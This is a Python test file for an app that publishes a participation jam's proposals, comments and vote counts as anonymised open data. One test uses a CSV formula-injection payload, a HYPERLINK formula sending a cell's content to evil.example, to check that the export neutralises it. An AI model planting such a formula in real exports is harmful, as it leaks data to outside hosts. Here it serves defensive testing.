"""A jam's proposals, comments and dot counts as open data: nothing about who wrote them."""

import csv
import datetime as dt
import io
import json
from collections.abc import Iterator
from typing import Any

import pytest

from pollen.jam import services
from pollen.jam.models import Comment, Lever, Participant, Proposal, Vote
from pollen.jam.opendata import COLUMNS, proposals_csv, proposals_json
from tests.jam.bercy import bercy_jam

RETAINED = "Un appel à projets pour les fablabs"
HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1,"Voir")'


@pytest.fixture
def bercy(call_2013):
    return bercy_jam(call_2013)


def csv_rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def strings(value: Any) -> Iterator[str]:
    """Every string in a JSON document, keys aside."""
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict):
        for item in value.values():
            yield from strings(item)
    elif isinstance(value, list):
        for item in value:
            yield from strings(item)


def test_it_publishes_no_name_email_or_organisation_of_anyone(bercy):
    people = Participant.objects.filter(jam=bercy)
    names = set(people.values_list("full_name", flat=True))
    emails = set(people.values_list("email", flat=True)) | {bercy.organiser.email}
    organisations = set(people.exclude(organisation="").values_list("organisation", flat=True))
    # Some organisations are institutions the jam itself names ("Bpifrance" in a proposal's
    # title, "Ministère de l'Économie" in the place): those may appear, in those texts only.
    written = " ".join(
        [
            bercy.title,
            bercy.place,
            *Proposal.objects.filter(jam=bercy).values_list("title", flat=True),
            *Proposal.objects.filter(jam=bercy).values_list("text", flat=True),
            *Proposal.objects.filter(jam=bercy).values_list("answer", flat=True),
        ]
    )
    secrets = names | emails | {o for o in organisations if o not in written}
    assert len(secrets) > 100
    data = proposals_json(bercy)
    for output in (proposals_csv(bercy), json.dumps(data, ensure_ascii=False)):
        for secret in secrets:
            assert secret not in output
    cells = {cell for row in csv_rows(proposals_csv(bercy)) for cell in row.values()}
    assert not (cells | set(strings(data))) & (names | emails | organisations)


def test_it_counts_one_dot_per_vote_row_and_every_comment(bercy):
    data = proposals_json(bercy)
    rows = {int(row["id"]): row for row in csv_rows(proposals_csv(bercy))}
    assert len(data["proposals"]) == len(rows) == Proposal.objects.filter(jam=bercy).count()
    for proposal in data["proposals"]:
        votes = Vote.objects.filter(proposal_id=proposal["id"]).count()
        assert proposal["dots"] == votes == int(rows[proposal["id"]]["dots"])
    assert data["votes"] == [{"proposal": p["id"], "dots": p["dots"]} for p in data["proposals"]]
    assert len(data["comments"]) == Comment.objects.filter(proposal__jam=bercy).count()
    assert sum(p["comments"] for p in data["proposals"]) == len(data["comments"])
    assert set(data["comments"][0]) == {"id", "proposal", "text", "created_at"}


def test_it_gives_codes_with_their_labels_and_moments_with_their_offset(bercy, call_2013):
    data = proposals_json(bercy)
    retained = next(p for p in data["proposals"] if p["title"] == RETAINED)
    assert (retained["lever"], retained["lever_label"]) == (Lever.FUNDING, "Financement")
    assert (retained["outcome"], retained["outcome_label"]) == ("retained", "Retenue")
    assert retained["call"] == call_2013.slug and retained["merged_into"] is None
    assert retained["group_theme"] == "Fablabs et fabrication numérique sur tout le territoire"
    created = dt.datetime.fromisoformat(retained["created_at"])
    assert created.utcoffset() == dt.timedelta(hours=2)  # Paris, summer
    assert data["jam"]["is_fictitious"] is True
    assert list(csv_rows(proposals_csv(bercy))[0]) == COLUMNS


def test_hostile_text_is_neutralised_in_the_csv_and_intact_in_the_json(bercy):
    proposal = Proposal.objects.filter(jam=bercy).first()
    Proposal.objects.filter(pk=proposal.pk).update(title=HOSTILE, text="+33 1 23\r=2+5")
    rows = csv_rows(proposals_csv(bercy))
    row = next(row for row in rows if int(row["id"]) == proposal.pk)
    assert row["title"] == "'" + HOSTILE
    assert row["text"] == "'+33 1 23\n=2+5"
    for cell in (cell for row in rows for cell in row.values()):
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
    published = next(p for p in proposals_json(bercy)["proposals"] if p["id"] == proposal.pk)
    assert (published["title"], published["text"]) == (HOSTILE, "+33 1 23\r=2+5")


def test_a_merged_proposal_points_to_the_merge_without_its_authors_names(room):
    group = room.groups[0]
    services.set_openings(acting=room.organiser, jam=room.jam, group=group, writing_open=True)
    authors = room.people[:2]
    sources = [
        services.post_proposal(
            acting=author, group=group, title=title, text="Texte.", lever=Lever.FUNDING
        )
        for author, title in zip(
            authors, ("Des fablabs ruraux", "Des fablabs à la campagne"), strict=True
        )
    ]
    merged = services.merge(
        acting=room.organiser,
        proposals=sources,
        title="Des fablabs dans les campagnes",
        text="Texte.",
        lever=Lever.FUNDING,
    )
    data = proposals_json(room.jam)
    assert {p["id"]: p["merged_into"] for p in data["proposals"]} == {
        sources[0].pk: merged.pk,
        sources[1].pk: merged.pk,
        merged.pk: None,
    }
    published = json.dumps(data, ensure_ascii=False)
    assert all(author.full_name not in published for author in authors)
